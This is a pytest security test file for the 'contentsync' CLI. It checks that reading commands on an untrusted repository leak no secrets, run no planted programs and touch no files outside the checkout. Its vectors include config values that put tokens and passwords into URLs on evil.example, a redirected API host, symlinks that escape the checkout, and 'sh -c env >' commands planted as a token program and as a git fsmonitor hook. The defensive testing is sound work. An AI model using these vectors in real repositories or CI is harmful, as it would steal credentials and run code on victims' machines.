"""A stranger's repository, or a pull request of one: what a reading command does with it, on a laptop and in a CI.

A server stands in for the rest of the world: every connection that would leave this machine goes through it as a
proxy, and is written down. Outside of the repository lie files that nobody may touch.
"""

from __future__ import annotations

import os
import shutil
import socketserver
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from contentsync.__main__ import main as console_script
from contentsync.cli import private_file
from contentsync.emulator.server import Emulator
from contentsync.errors import UsageError
from tests.cli.support import PROJECT, Ran, Studio
from tests.store.git.remotes import git

CANARY = "canary-of-the-environment-2718"
ENVIRONMENT = {
    "CONTENTSYNC_CANARY": CANARY,
    "CONTENTSYNC_DEPLOY_PASSWORD": CANARY,
    "GITHUB_TOKEN": CANARY,
    "AWS_SECRET_ACCESS_KEY": CANARY,
    "SOME_OTHER_NAME": CANARY,
    "NO_PROXY": "127.0.0.1,localhost",
}
READING = (
    ("validate",),
    ("plan", "--no-refresh"),
    ("plan", "--no-refresh", "--json"),
    ("-v", "plan"),
    ("-v", "plan", "--json"),
    ("plan", "--out", "plan.json"),
    ("status",),
    ("status", "--json"),
    ("refresh",),
    ("explain", "acme/one"),
    ("accounts",),
    ("accounts", "--json"),
    ("videos", "acme"),
    ("comments", "7123"),
    ("state", "list"),
    ("state", "history"),
    ("hosting", "list"),
    ("hosting", "list", "--json"),
    ("hosting", "prune", "--dry-run"),
    ("trust", "--show"),
    ("trust", "--json"),
)


@dataclass
class World:
    """Everything that is not this machine: it takes every connection, and answers none."""

    port: int
    heard: list[bytes] = field(default_factory=list)


@pytest.fixture
def world() -> Iterator[World]:
    heard: list[bytes] = []

    class Recorder(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            self.request.settimeout(2)
            heard.append(self.request.recv(65_536))
            self.request.sendall(b"HTTP/1.1 502 Nobody\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Recorder) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield World(server.server_address[1], heard)
        server.shutdown()


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "precious.json").write_text("precious")
    return folder


@pytest.fixture(params=["laptop", "ci"])
def victim(tmp_path: Path, emulator: Emulator, world: World, request: pytest.FixtureRequest) -> Studio:
    """A checkout of the stranger's, with the victim's tokens and secrets in the environment."""
    studio = Studio(tmp_path / "checkout", dict(emulator.environment) | ENVIRONMENT)
    proxy = f"http://127.0.0.1:{world.port}"
    studio.environment |= {"HTTPS_PROXY": proxy, "HTTP_PROXY": proxy, "ALL_PROXY": proxy}
    if request.param == "ci":
        studio.environment |= {"CI": "true", "CONTENTSYNC_DATA_DIR": str(tmp_path / "empty")}
    studio.post("one")
    return studio


def program(outside: Path, name: str = "ran") -> str:
    """A command that leaves a file, if it is ever run."""
    return f"[sh, -c, 'env > {outside}/{name}; echo token']"


def with_project(text: str, before: str = "", after: str = "") -> Callable[[Studio, Path], None]:
    def plant(studio: Studio, outside: Path) -> None:
        given = text.replace("PROGRAM", program(outside)).replace("OUTSIDE", str(outside))
        content = PROJECT.replace(before, after.replace("PROGRAM", program(outside)), 1) if before else PROJECT
        studio.write("contentsync.yaml", content + given)

    return plant


def a_link(name: str) -> Callable[[Studio, Path], None]:
    def plant(studio: Studio, outside: Path) -> None:
        link = studio.root / name
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(outside / "precious.json" if link.suffix else outside)

    return plant


def hosting(base_url: str) -> Callable[[Studio, Path], None]:
    """A photo post, whose address a preflight asks."""

    def plant(studio: Studio, outside: Path) -> None:
        with_project(f"hosting: {{base_url: '{base_url}'}}\n")(studio, outside)
        folder = studio.root / "posts" / "slides"
        folder.mkdir()
        (folder / "1.jpg").write_bytes((Path(__file__).parents[1] / "media" / "ok.jpg").read_bytes())
        studio.post("slides", photos="slides/")

    return plant


def _elsewhere(studio: Studio, outside: Path) -> None:
    """The address elsewhere, and no address in the environment that would win over it."""
    del studio.environment["CONTENTSYNC_API_URL"]
    base = "api: {base_url: 'https://open.tiktokapis.com.evil.example', poll_initial: 10ms"
    with_project("", "api: {poll_initial: 10ms", base)(studio, outside)


ACME = "acme: {"
VECTORS: dict[str, Callable[[Studio, Path], None]] = {
    "an address elsewhere": _elsewhere,
    "a program for an account": with_project("", ACME, f"{ACME}token_command: PROGRAM, "),
    "a program for an account without a token": with_project(
        "  \n", "accounts:\n", "accounts:\n  zoe: {mode: draft, token_command: PROGRAM}\n"
    ),
    "a variable of others": with_project("timezone: '${SOME_OTHER_NAME}'\n"),
    "a variable in an identity": with_project("", ACME, f"{ACME}open_id: '${{CONTENTSYNC_CANARY}}', "),
    "a variable as a time zone": with_project("timezone: '${CONTENTSYNC_CANARY}'\n"),
    "a variable as a pattern": with_project("manifests: ['${CONTENTSYNC_CANARY}/*.yaml', 'posts/**/*.yaml']\n"),
    "a variable as the state's name": with_project("state: '.contentsync/${CONTENTSYNC_CANARY}'\n"),
    "a variable as a slot": with_project("", ACME, f"{ACME}slots: ['${{CONTENTSYNC_CANARY}}'], "),
    "a variable in an address of photos": hosting("https://evil.example/${CONTENTSYNC_CANARY}/"),
    "a password in an address of photos": hosting("https://x${CONTENTSYNC_DEPLOY_PASSWORD}.evil.example/"),
    "the app's secret in an address of photos": hosting("https://x${CONTENTSYNC_CLIENT_SECRET}.evil.example/"),
    "a token in an address of photos": hosting("https://x${CONTENTSYNC_TOKEN_ACME}.evil.example/"),
    "another's token in an address of photos": hosting("https://x${GITHUB_TOKEN}.evil.example/"),
    "a state outside": with_project("state: OUTSIDE/state.db\n"),
    "a state above": with_project("state: ../outside/state.db\n"),
    "photos to a folder outside": with_project("hosting: {base_url: 'https://m.example/', upload: 'OUTSIDE'}\n"),
    "receipts that are a link": a_link("receipts"),
    "receipts of an account that are a link": a_link("receipts/acme"),
    "a receipt that is a link": a_link("receipts/acme/one.json"),
    "a local folder that is a link": a_link(".contentsync"),
    "a state that is a link": a_link(".contentsync/state.db"),
    "a cache that is a link": a_link(".contentsync/cache.db"),
    "a lock that is a link": a_link(".contentsync/apply.lock"),
    "a plan file that is a link": a_link("plan.json"),
    "media that are a link": a_link("posts/one.link.mp4"),
    "a manifest that is a link": a_link("posts/two.yaml"),
    "posts that are a link": a_link("posts/more"),
}


def run_all(victim: Studio) -> list[tuple[tuple[str, ...], Ran]]:
    return [(verb, victim.run(*verb)) for verb in READING]


@pytest.mark.parametrize("vector", VECTORS)
def test_no_reading_command_does_what_a_stranger_wants(
    vector: str, victim: Studio, world: World, outside: Path, emulator: Emulator
) -> None:
    VECTORS[vector](victim, outside)
    told = run_all(victim)
    secrets = [value for name, value in victim.environment.items() if "_TOKEN_" in name and len(value) > 8]
    secrets += [emulator.config.app.client_secret]
    said = "".join(ran.out + ran.err for _, ran in told)
    assert {path.name: path.read_text() for path in outside.iterdir()} == {"precious.json": "precious"}
    assert [secret for secret in (CANARY, *secrets) if secret in said] == []
    assert [secret for secret in (CANARY, *secrets) if secret.encode() in b"".join(world.heard)] == []
    assert not any(b"tiktokapis" in heard for heard in world.heard)
    assert not list(victim.root.rglob(f"*{CANARY}*")) or "state's name" in vector
    assert {ran.code for _, ran in told} <= {0, 1, 8}, [(verb, ran.code, ran.err) for verb, ran in told]


def test_the_recorder_hears_what_does_leave(victim: Studio, world: World, outside: Path) -> None:
    """The test is not deaf: a preflight of an address elsewhere goes through it."""
    hosting("https://media.example/x/")(victim, outside)
    victim.run("plan")
    assert any(b"CONNECT media.example:443" in heard for heard in world.heard)


def test_a_program_that_was_granted_runs_and_sees_no_secret(
    victim: Studio, outside: Path, emulator: Emulator
) -> None:
    VECTORS["a program for an account without a token"](victim, outside)
    victim.environment["CONTENTSYNC_TRUST"] = victim.run("trust", "--json").json["digest"]
    victim.run("accounts")
    seen = (outside / "ran").read_text()
    assert "PATH=" in seen and "CONTENTSYNC_" not in seen
    assert emulator.config.app.client_secret not in seen


def test_a_pull_request_that_changes_the_granted_program_runs_nothing(victim: Studio, outside: Path) -> None:
    VECTORS["a program for an account without a token"](victim, outside)
    victim.environment["CONTENTSYNC_TRUST"] = victim.run("trust", "--json").json["digest"]
    project = (victim.root / "contentsync.yaml").read_text()
    victim.write("contentsync.yaml", project.replace("echo token", "echo other"))
    told = victim.run("accounts")
    assert (told.code, "[command-not-trusted]" in told.err + told.out) == (8, True), told
    assert not (outside / "ran").exists()


def test_apply_begins_nothing_for_an_address_elsewhere(victim: Studio, outside: Path, world: World) -> None:
    _elsewhere(victim, outside)
    told = victim.run("apply", "--auto-approve")
    assert (told.code, "[base-url-foreign]" in told.err, world.heard) == (1, True, [])
    told = victim.run("login", "acme", "--no-browser")
    assert (told.code, "[base-url-foreign]" in told.err, world.heard) == (1, True, [])
    told = victim.run("logout", "acme")
    assert (told.code, world.heard) == (1, [])


def test_a_grant_on_this_machine_holds_for_this_folder_alone(victim: Studio, outside: Path, tmp_path: Path) -> None:
    from contentsync.store import trusted

    VECTORS["a program for an account without a token"](victim, outside)
    digest = victim.run("trust", "--json").json["digest"]
    data = Path(victim.environment.get("CONTENTSYNC_DATA_DIR") or os.environ["CONTENTSYNC_DATA_DIR"])
    trusted.record(data, victim.root, digest)
    assert victim.run("trust", "--json").json["granted"] is True
    copy = Studio(tmp_path / "copy", victim.environment)
    copy.write("contentsync.yaml", (victim.root / "contentsync.yaml").read_text())
    assert copy.run("trust", "--json").json["granted"] is False


def test_trust_without_a_terminal_grants_nothing(victim: Studio, outside: Path) -> None:
    VECTORS["a program for an account without a token"](victim, outside)
    told = victim.run("trust", stdin="yes\n")
    assert (told.code, "[trust-needs-a-person]" in told.err, "CONTENTSYNC_TRUST=sha256:" in told.err) == (
        64,
        True,
        True,
    )
    assert victim.run("trust", "--json").json["granted"] is False
    assert "env > " in told.out and "DIGEST sha256:" in told.out


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_no_program_that_a_repository_sets_for_git_runs_when_a_file_is_checked(tmp_path: Path) -> None:
    hook = tmp_path / "hook.sh"
    hook.write_text(f"#!/bin/sh\nenv > {tmp_path}/ran\n")
    hook.chmod(0o755)
    git(tmp_path, "init", "-q")
    (tmp_path / "tracked").touch()
    git(tmp_path, "add", "tracked")
    git(tmp_path, "update-index", "--fsmonitor")
    git(tmp_path, "config", "core.fsmonitor", str(hook))
    with pytest.raises(UsageError, match="could be committed"):
        private_file.refuse_tracked(tmp_path / "token", tmp_path)
    assert not (tmp_path / "ran").exists()


def test_windows_is_told_not_to_start_programs_that_lie_in_the_current_folder(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("NODEFAULTCURRENTDIRECTORYINEXEPATH", "")
    monkeypatch.setattr("contentsync.cli.main.main", lambda: None)
    monkeypatch.setattr("sys.argv", ["contentsync", "plan"])
    console_script()
    assert os.environ["NODEFAULTCURRENTDIRECTORYINEXEPATH"] == "1"
